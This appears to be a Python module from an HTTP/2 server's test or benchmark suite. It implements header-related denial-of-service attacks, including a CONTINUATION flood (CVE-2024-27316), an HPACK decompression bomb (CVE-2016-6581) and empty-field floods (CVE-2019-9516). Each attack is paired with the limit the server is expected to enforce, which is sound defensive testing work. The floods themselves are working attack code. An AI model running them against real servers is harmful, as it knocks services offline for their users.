"""Header blocks without an end, lists that grow when they are unpacked, and fields of nothing."""

from __future__ import annotations

from typing import TYPE_CHECKING

from bench.attacks.attack import SCAN, SCAN_HEADERS, Attack, call, open_call
from tests.support import wire

if TYPE_CHECKING:
    from bench.attacks.peer import RawPeer

_FIELDS = 400
_HOARD = wire.encode(call(SCAN, *((f"x{number}", "") for number in range(_FIELDS))))
_BOMB = SCAN_HEADERS + b"\x40\x01x\x7f\x81\x1e" + b"y" * 4_000 + b"\xbe" * 12_000


def continuation_flood(peer: RawPeer) -> None:
    """CVE-2024-27316: a header block of CONTINUATION frames that does not end."""
    peer.send(wire.frame(wire.HEADERS, 1, SCAN_HEADERS))
    while True:
        peer.send(wire.frame(wire.CONTINUATION, 1, b"\x00\x01x\x01y" * 1_000))


def empty_continuations(peer: RawPeer) -> None:
    """The same, without an octet in any of them."""
    peer.send(wire.frame(wire.HEADERS, 1, b""))
    while True:
        peer.send(wire.frame(wire.CONTINUATION, 1, b"") * 50)


def slow_header_block(peer: RawPeer) -> None:
    """A header block that is begun, and then nothing."""
    peer.send(wire.frame(wire.HEADERS, 1, SCAN_HEADERS))


def hpack_bomb(peer: RawPeer) -> None:
    """CVE-2016-6581: 16 KiB that are unpacked to 48 MB."""
    peer.send(open_call(1, _BOMB))
    peer.wait_ended()


def nameless_headers(peer: RawPeer) -> None:
    """CVE-2019-9516: fields without name and value."""
    while True:
        peer.send(open_call(peer.streams()[0], SCAN_HEADERS + b"\x00\x00\x00" * 5_000))


def empty_headers(peer: RawPeer) -> None:
    """HEADERS frames without an octet."""
    while True:
        peer.send(b"".join(open_call(sid, b"") for sid in peer.streams(50)))


def header_hoard(peer: RawPeer) -> None:
    """A thousand calls, each with as many short fields as fit into a header list; none of them goes on."""
    for _ in range(10):
        peer.send(b"".join(open_call(sid, _HOARD) for sid in peer.streams(99)))
    peer.wait_answer()


ATTACKS = (
    Attack(
        name="CONTINUATION flood",
        run=continuation_flood,
        bound="a header block of five times header_list_bytes_max; then ENHANCE_YOUR_CALM",
    ),
    Attack(
        name="CONTINUATION flood, empty frames",
        run=empty_continuations,
        bound="64 frames a block, 100 at once on a connection; then the connection ends",
    ),
    Attack(
        name="header block without an end",
        run=slow_header_block,
        bound="handshake_timeout_s for a header block",
        connections=100,
    ),
    Attack(
        name="HPACK bomb",
        run=hpack_bomb,
        bound="five times header_list_bytes_max; then the connection ends",
    ),
    Attack(
        name="headers of length 0",
        run=nameless_headers,
        bound="a field without a name costs a reset; five times header_list_bytes_max end the connection",
    ),
    Attack(
        name="HEADERS of length 0",
        run=empty_headers,
        bound="1000 resets without an answer at once, 50 a second; then ENHANCE_YOUR_CALM",
    ),
    Attack(
        name="header hoard",
        run=header_hoard,
        bound="header_list_bytes_max a stream; first_message_timeout_s",
        connections=2,
    ),
)
